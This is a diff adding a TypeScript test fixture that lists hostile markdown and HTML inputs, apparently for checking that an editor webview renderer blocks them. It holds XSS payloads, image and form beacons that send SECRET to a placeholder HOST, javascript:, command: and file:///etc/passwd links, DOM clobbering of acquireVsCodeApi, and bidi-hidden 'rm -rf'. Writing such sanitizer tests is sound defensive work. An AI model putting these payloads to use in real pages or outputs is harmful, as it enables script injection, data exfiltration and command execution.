@@ -1,0 +1,36 @@
+/** What a hostile model or file may try. `HOST` stands for a server that counts every request that it gets. */
+export const HOSTILE: Readonly<Record<string, string>> = {
+  script: '<script>fetch("HOST/script")</script>',
+  'event handlers': '<img src=x onerror="fetch(\'HOST/onerror\')"> <svg onload="fetch(\'HOST/onload\')"></svg>',
+  'markdown image': '![pixel](HOST/image.png?q=SECRET)',
+  'image by reference': '![pixel][p]\n\n[p]: HOST/reference.png',
+  'image tags': '<img src="HOST/img"><img srcset="HOST/srcset 1x"><picture><source srcset="HOST/source"></picture>',
+  media: '<video src="HOST/video" poster="HOST/poster"></video><audio src="HOST/audio" autoplay></audio>',
+  embeds: '<iframe src="HOST/iframe"></iframe><object data="HOST/object"></object><embed src="HOST/embed">',
+  css: '<div style="background:url(HOST/style)">x</div><style>@import "HOST/import"; body{background:url(HOST/css)}</style>',
+  'table background': '<table background="HOST/background"><tr><td>x</td></tr></table>',
+  links: '<link rel="stylesheet" href="HOST/link"><link rel="prefetch" href="HOST/prefetch"><base href="HOST/">',
+  refresh: '<meta http-equiv="refresh" content="0;url=HOST/refresh">',
+  form: '<form action="HOST/form" method="get"><input name="q" value="SECRET"><button>Go</button></form>',
+  'image input': '<input type="image" src="HOST/input">',
+  'svg image': '<svg><image href="HOST/svg"/><use href="HOST/use#x"/></svg>',
+  mathml:
+    '<math><mtext><table><mglyph><style><img src=x onerror=fetch("HOST/math")></style></mglyph></table></mtext></math>',
+  'script links':
+    '[a](javascript:fetch("HOST/js")) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>fetch("HOST/data")</script>)',
+  'editor links':
+    '[a](command:workbench.action.terminal.new) [b](vscode:extension/evil) [c](vscode-insiders://x) [d](file:///etc/passwd)',
+  autolinks: '<javascript:alert(1)> <command:evil> <data:text/html,x>',
+  'class and id': '<div class="card error" id="completions">Fake card <button data-code="terminal">Run</button></div>',
+  'a fence that looks like a bar': '```"><img src=HOST/fence onerror=alert(1)>\nx\n```',
+  'language as html': '```<b>x</b>\ncode\n```\n```" onmouseover="fetch(\'HOST/lang\')\ncode\n```',
+  'table cells': '| <img src=HOST/cell> | `<script>` |\n|---|---|\n| [x](javascript:alert(1)) | ![y](HOST/cellimage) |',
+  'titles of links': '[x](https://x.example "\\" onmouseover=\\"fetch(\'HOST/title\')")',
+  'image alt': '![<img src=HOST/alt onerror=alert(1)>](HOST/altsrc "<script>")',
+  'html in headings': '# <img src=HOST/heading>\n\n<img src=HOST/setext>\n=====',
+  'html in lists': '- <img src=HOST/item>\n\n  <iframe src=HOST/nested></iframe>',
+  'unclosed tags': '<div><img src="HOST/open\n\n<a href="HOST/a" onclick="fetch(\'HOST/click\')">x',
+  entities: '&lt;img src=HOST/entity&gt; &#60;script&#62;fetch("HOST/e")&#60;/script&#62;',
+  'dom clobbering': '<a id="said" name="acquireVsCodeApi">x</a><form name="document"><input name="body"></form>',
+  'long bidi': 'Safe \u202egnp.exe\u202c text \u2066hidden\u2069 `rm \u202e-rf`',
+};
